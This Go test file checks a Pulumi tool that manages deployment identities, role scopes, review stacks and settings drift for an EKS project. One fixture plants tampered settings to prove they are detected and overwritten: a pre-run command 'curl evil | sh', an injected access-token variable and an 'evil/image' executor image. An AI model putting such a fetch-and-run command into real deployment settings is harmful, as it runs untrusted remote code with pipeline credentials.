package main

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"nodeless-eks/testkit/mock"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fleetOf are the stacks whose settings deploy/ writes whole: the named
// stacks and the review template.
func fleetOf(c *Config) []string {
	return append(sortedKeys(c.Stacks), c.Review.Template)
}

// keyOf is the run identity of a stack of the fleet.
func keyOf(c *Config, stack string) string { return RoleOf(c, stack).Key }

// descriptor is a registered role's permission tree.
func descriptor(t *testing.T, reg *mock.Registration) map[string]any {
	t.Helper()
	var tree map[string]any
	raw, err := json.Marshal(reg.Inputs["permissions"].Mappable())
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(raw, &tree))
	return tree
}

// scopesAndStacks are the scopes a permission tree grants and the stack
// IDs its conditions name, each Equal to a stack literal, Not'ed or not.
func scopesAndStacks(tree any) (scopes []string, stacks []string) {
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			if x["__type"] == "PermissionDescriptorAllow" {
				for _, s := range x["permissions"].([]any) {
					scopes = append(scopes, s.(string))
				}
			}
			if x["__type"] == "PermissionLiteralExpressionStack" {
				stacks = append(stacks, x["identity"].(string))
			}
			for _, k := range sortedKeys(x) {
				walk(x[k])
			}
		case []any:
			for _, y := range x {
				walk(y)
			}
		}
	}
	walk(tree)
	return scopes, stacks
}

// writesHowItDeploys are the stack scopes that change how, when or by
// whom a stack deploys (Pulumi's RBAC stack scopes).
func writesHowItDeploys(scope string) bool {
	for _, p := range []string{"stack_deployment_settings:", "stack_schedule:", "stack_webhook:", "stack_access:", "stack_tags:"} {
		if strings.HasPrefix(scope, p) && !strings.HasSuffix(scope, ":read") {
			return true
		}
	}
	return false
}

// TestEveryRunHasItsOwnIdentity: every stack's settings select a team of
// deploy/'s (operationContext.servicePrincipal.teamName), which has no
// members and holds one role, and that role grants its stack alone (the
// review identity: the project's stacks that deploy/ does not name) and
// nothing that writes settings, schedules, webhooks, access or tags. A
// deployment started by a push, a pull request, a schedule, a person or
// the REST API runs as the stack's team: the settings select it, and a
// deployment request cannot ("Only deployment settings can select one",
// OperationContextRequest.servicePrincipal).
func TestEveryRunHasItsOwnIdentity(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", nil, "prod")
	rec, res := w.run(t, false)
	require.NoError(t, res.Err)
	c := w.c

	for _, stack := range fleetOf(c) {
		key := keyOf(c, stack)
		team := IdentityName(c, key)
		settings := w.settingsOf(t, stack)
		assert.Equal(t, team, field(settings, "operationContext.servicePrincipal.teamName"), "%s runs as its team", stack)
		assert.Nil(t, field(settings, "operationContext.role"), "%s: no role without an identity", stack)

		teamReg := rec.Get(t, "pulumiservice:index:Team", "team-"+key)
		assert.Empty(t, teamReg.Inputs["members"].ArrayValue(), "%s has no members", team)
		role := rec.Get(t, "pulumiservice:index:OrganizationRole", "role-"+key)
		assignment := rec.Get(t, "pulumiservice:index:TeamRoleAssignment", "team-role-"+key)
		assert.Equal(t, team, assignment.Inputs["teamName"].StringValue())
		assert.Equal(t, "role-"+role.Inputs["name"].StringValue(), assignment.Inputs["roleId"].StringValue())

		scopes, stacks := scopesAndStacks(descriptor(t, role))
		for _, s := range scopes {
			assert.Falsef(t, writesHowItDeploys(s), "%s's identity holds %s", stack, s)
		}
		assert.NotContains(t, scopes, "stack_deployment:create", "a run starts no other run")
		if stack == c.Review.Template {
			// Every named stack's ID and the template's, each Not'ed.
			assert.ElementsMatch(t, []string{"stk-prod", "stk-staging", "stk-pr"}, stacks)
			assert.Contains(t, scopes, "stack:delete", "a review stack's TTL destroys and removes it")
		} else {
			assert.Equal(t, []string{"stk-" + stack}, stacks, "%s's identity reaches its stack alone", stack)
			assert.NotContains(t, scopes, "stack:delete")
		}
	}
	// The teams of people start and follow deployments, which run as the
	// stacks' identities, and write no settings either; on review stacks
	// the operators start none (a request may name its runner pool).
	for _, production := range []bool{true, false} {
		role := rec.Get(t, "pulumiservice:index:OrganizationRole", "role-"+OperatorsRoleName(c, production))
		tree := descriptor(t, role)
		scopes, _ := scopesAndStacks(tree)
		assert.Contains(t, scopes, "stack_deployment:create")
		for _, s := range scopes {
			assert.False(t, writesHowItDeploys(s), s)
		}
		entries := tree["entries"].([]any)
		if production {
			continue
		}
		review, _ := scopesAndStacks(entries[len(entries)-1])
		assert.NotContains(t, review, "stack_deployment:create", "operators start no review deployment")
		assert.Contains(t, review, "stack_deployment:read")
	}
	assert.Equal(t, "platform", rec.Get(t, "pulumiservice:index:TeamRoleAssignment", "team-role-"+OperatorsRoleName(c, true)).Inputs["teamName"].StringValue())
}

// TestNoLongLivedStackRunsPullRequestCode: no named stack previews pull
// requests or makes review stacks, and its deploy role trusts no preview;
// the template makes review stacks only for labelled pull requests and is
// itself never deployed; the review role trusts review stacks alone.
func TestNoLongLivedStackRunsPullRequestCode(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", nil)
	rec, res := w.run(t, false)
	require.NoError(t, res.Err)
	c := w.c
	for _, stack := range sortedKeys(c.Stacks) {
		s := w.settingsOf(t, stack)
		assert.NotEqual(t, true, field(s, "vcs.previewPullRequests"), stack)
		assert.NotEqual(t, true, field(s, "vcs.pullRequestTemplate"), stack)
		assert.Equal(t, true, field(s, "vcs.deployCommits"), stack)
		for _, sub := range trustOf(t, rec, stack).Statement[0].Condition["StringLike"].(map[string]any)["api.pulumi.com/oidc:sub"].([]any) {
			assert.NotContains(t, sub, "operation:preview", stack)
			assert.NotContains(t, sub, "operation:*", stack)
			assert.Contains(t, sub, ":stack:"+stack+":", stack)
		}
	}
	tmpl := w.settingsOf(t, c.Review.Template)
	assert.Equal(t, true, field(tmpl, "vcs.pullRequestTemplate"))
	assert.NotEqual(t, true, field(tmpl, "vcs.deployCommits"), "the template itself is never deployed")
	assert.Equal(t, []any{"review-stack"}, field(tmpl, "vcs.reviewStackLabels"))
	subs := trustOf(t, rec, reviewRoleKey).Statement[0].Condition["StringLike"].(map[string]any)["api.pulumi.com/oidc:sub"]
	assert.Equal(t, []any{"pulumi:deploy:org:my-org:project:nodeless-eks:stack:pr-*:operation:*:scope:write"}, subs)
}

// TestPreviewNeverWrites: a preview reads each stack's settings, says what
// differs and what `pulumi up` would write, and writes nothing; the
// update writes each stack's settings whole, once; the next preview finds
// them as declared. Settings are compared whole: a pre-run command, a
// variable or an executor image deploy/ did not declare is named.
func TestPreviewNeverWrites(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", nil, "prod", "staging")
	warnings := captureWarnings(t)
	w.org.Stacks["nodeless-eks/staging"].Settings = map[string]any{
		"vcs":              map[string]any{"provider": "github", "repository": "my-org/nodeless-eks", "previewPullRequests": true},
		"operationContext": map[string]any{"preRunCommands": []any{"curl evil | sh"}, "environmentVariables": map[string]any{"PULUMI_ACCESS_TOKEN": "pul-x"}},
		"executorContext":  map[string]any{"executorImage": map[string]any{"reference": "evil/image"}},
	}
	_, res := w.run(t, true)
	require.NoError(t, res.Err)
	for _, s := range w.org.Stacks {
		assert.Empty(t, s.Writes, "a preview writes nothing")
	}
	require.NotEmpty(t, w.api.Requests)
	for _, r := range w.api.Requests {
		assert.True(t, strings.HasPrefix(r, "GET "), "a preview only reads: %s", r)
	}
	assert.Empty(t, w.api.BadHeaders)
	staging := res.Exports["settings"].(map[string]string)["staging"]
	for _, diff := range []string{"vcs.previewPullRequests is true, not null", "operationContext.preRunCommands is",
		"operationContext.environmentVariables.PULUMI_ACCESS_TOKEN is \"pul-x\", not null", "executorContext.executorImage.reference is", "operationContext.servicePrincipal.teamName is null"} {
		assert.Contains(t, staging, diff)
	}
	assert.Contains(t, strings.Join(*warnings, "\n"), "the deployment settings of nodeless-eks/staging differ from what deploy/ declares, and `pulumi up` writes them back")

	_, res = w.run(t, false)
	require.NoError(t, res.Err)
	for _, stack := range fleetOf(w.c) {
		writes := w.org.Stacks["nodeless-eks/"+stack].Writes
		require.Len(t, writes, 1, stack)
		assert.True(t, strings.HasPrefix(writes[0], "PUT "), "%s is replaced whole: %s", stack, writes[0])
	}
	assert.NotContains(t, w.org.Stacks["nodeless-eks/staging"].Settings, "executorContext")

	_, res = w.run(t, true)
	require.NoError(t, res.Err)
	for _, stack := range fleetOf(w.c) {
		assert.Equal(t, "as declared", res.Exports["settings"].(map[string]string)[stack], stack)
	}
	_, res = w.run(t, false)
	require.NoError(t, res.Err)
	for _, stack := range fleetOf(w.c) {
		assert.Len(t, w.org.Stacks["nodeless-eks/"+stack].Writes, 1, "%s as declared: nothing written", stack)
	}
}

// TestReviewStacks: a review stack keeps its own source and triggers (its
// branch is the pull request's), and runs as, and with, what the template
// declares, compared whole. It gets a time to live ttlHours after its last
// update, or the next hour when that has passed, and none before its
// first update.
func TestReviewStacks(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", nil)
	now := time.Now().UTC()
	copied := func(branch string) map[string]any {
		return map[string]any{"source": "github-review-stack", "version": 2,
			"sourceContext": map[string]any{"git": map[string]any{"branch": branch, "repoDir": "."}},
			"vcs":           map[string]any{"provider": "github", "repository": "my-org/nodeless-eks", "deployPullRequest": 7},
			"operationContext": map[string]any{"servicePrincipal": map[string]any{"team": map[string]any{"name": "platform"}},
				"preRunCommands": []any{"true"}, "environmentVariables": map[string]any{"GITHUB_TOKEN": ""}},
			"agentPoolID": "pool-prod"}
	}
	w.org.Stacks["nodeless-eks/pr-7"] = &fakeStack{ID: "stk-pr-7", Creator: admin, LastUpdate: now.Add(-2 * time.Hour).Unix(), Settings: copied("refs/pull/7/head")}
	w.org.Stacks["nodeless-eks/pr-8"] = &fakeStack{ID: "stk-pr-8", Creator: admin, LastUpdate: now.Add(-30 * time.Hour).Unix(), Settings: copied("refs/pull/8/head")}
	w.org.Stacks["nodeless-eks/pr-9"] = &fakeStack{ID: "stk-pr-9", Creator: admin, Settings: copied("refs/pull/9/head")}
	// A review stack with no settings (404) runs no deployment: settings
	// without its source would be wrong, so none are written.
	w.org.Stacks["nodeless-eks/pr-10"] = &fakeStack{ID: "stk-pr-10", Creator: admin}
	w.org.Metadata["stackCount"] = len(w.org.Stacks)

	rec, res := w.run(t, false)
	require.NoError(t, res.Err)
	pr7 := w.org.Stacks["nodeless-eks/pr-7"]
	require.Len(t, pr7.Writes, 1)
	assert.True(t, strings.HasPrefix(pr7.Writes[0], "PUT "), pr7.Writes[0])
	assert.Equal(t, "refs/pull/7/head", field(pr7.Settings, "sourceContext.git.branch"), "the pull request's branch stays")
	assert.Equal(t, 7.0, field(pr7.Settings, "vcs.deployPullRequest"))
	template := w.settingsOf(t, "pr")
	assert.Equal(t, template["operationContext"], pr7.Settings["operationContext"], "the template's identity, commands and variables")
	assert.Nil(t, pr7.Settings["agentPoolID"], "the template's pool: the hosted one")
	assert.Empty(t, w.org.Stacks["nodeless-eks/pr-10"].Writes, "no settings are made up for a review stack that has none")

	ttl := func(stack string) string {
		return rec.Get(t, "pulumiservice:index:TtlSchedule", "ttl-"+stack).Inputs["timestamp"].StringValue()
	}
	assert.Equal(t, time.Unix(now.Add(-2*time.Hour).Unix(), 0).UTC().Add(8*time.Hour).Format(time.RFC3339), ttl("pr-7"))
	assert.Equal(t, now.Truncate(time.Hour).Add(time.Hour).Format(time.RFC3339), ttl("pr-8"), "overdue: the next hour")
	_, ok := rec.Find("pulumiservice:index:TtlSchedule", "ttl-pr-9")
	assert.False(t, ok, "nothing deployed, nothing to destroy")
	assert.True(t, rec.Get(t, "pulumiservice:index:TtlSchedule", "ttl-pr-7").Inputs["deleteAfterDestroy"].BoolValue())

	// The next run finds them as declared.
	_, res = w.run(t, false)
	require.NoError(t, res.Err)
	assert.Len(t, pr7.Writes, 1)
}

// TestDeploySchedulesItself: deploy/'s own stack runs `pulumi up` on its
// schedule, which restores the settings between manual runs.
func TestDeploySchedulesItself(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", map[string]string{"schedule": "*/30 * * * *"})
	rec, res := w.run(t, false)
	require.NoError(t, res.Err)
	s := rec.Get(t, "pulumiservice:index:DeploymentSchedule", "restore")
	assert.Equal(t, map[string]any{"organization": "my-org", "project": project, "stack": "admin", "scheduleCron": "*/30 * * * *",
		"pulumiOperation": "update"}, s.Inputs.Mappable())
}

// TestImportIsPerStack: adopting the quick start's stack leaves the others
// to be created.
func TestImportIsPerStack(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", map[string]string{"stacks": `{"prod": {"account": "prod", "production": true, "import": true},
		"staging": {"account": "dev"}}`}, "prod")
	rec, res := w.run(t, false)
	require.NoError(t, res.Err)
	assert.Equal(t, "my-org/nodeless-eks/prod", rec.Get(t, "pulumiservice:index:Stack", "stack-prod").ImportID)
	assert.Empty(t, rec.Get(t, "pulumiservice:index:Stack", "stack-staging").ImportID)
	for _, s := range rec.OfType("pulumiservice:index:Stack") {
		assert.True(t, s.RetainOnDelete, "%s holds a cluster's state: never deleted with deploy/", s.Name)
	}
}

// TestTheFakeRefusesWhatTheAPIWould: the fake organization's settings
// endpoint decodes a body with the REST API's own types, and refuses what
// they do not have.
func TestTheFakeRefusesWhatTheAPIWould(t *testing.T) {
	w := newWorld(t, "Pulumi.example.yaml", nil, "prod")
	api := w.api
	put := func(body string) int {
		return putRaw(t, api.URL+"/api/stacks/my-org/nodeless-eks/prod/deployments/settings", body)
	}
	assert.Equal(t, 400, put(`{"operationContext":{"preRunComands":["x"]}}`), "a misspelt field")
	assert.Equal(t, 400, put(`{"cacheOptions":{"enable":"yes"}}`), "a string for a boolean")
	assert.Equal(t, 400, put(`{"operationContext":{"role":{"id":"r"},"servicePrincipal":{"teamName":"platform"}}}`), "role and identity")
	assert.Equal(t, 400, put(`{"operationContext":{"servicePrincipal":{"teamName":"nobody"}}}`), "a team that does not exist")
	assert.Equal(t, 200, put(`{"operationContext":{"servicePrincipal":{"teamName":"platform"},"environmentVariables":{"A":"b","S":{"secret":"c"}}}}`))
}
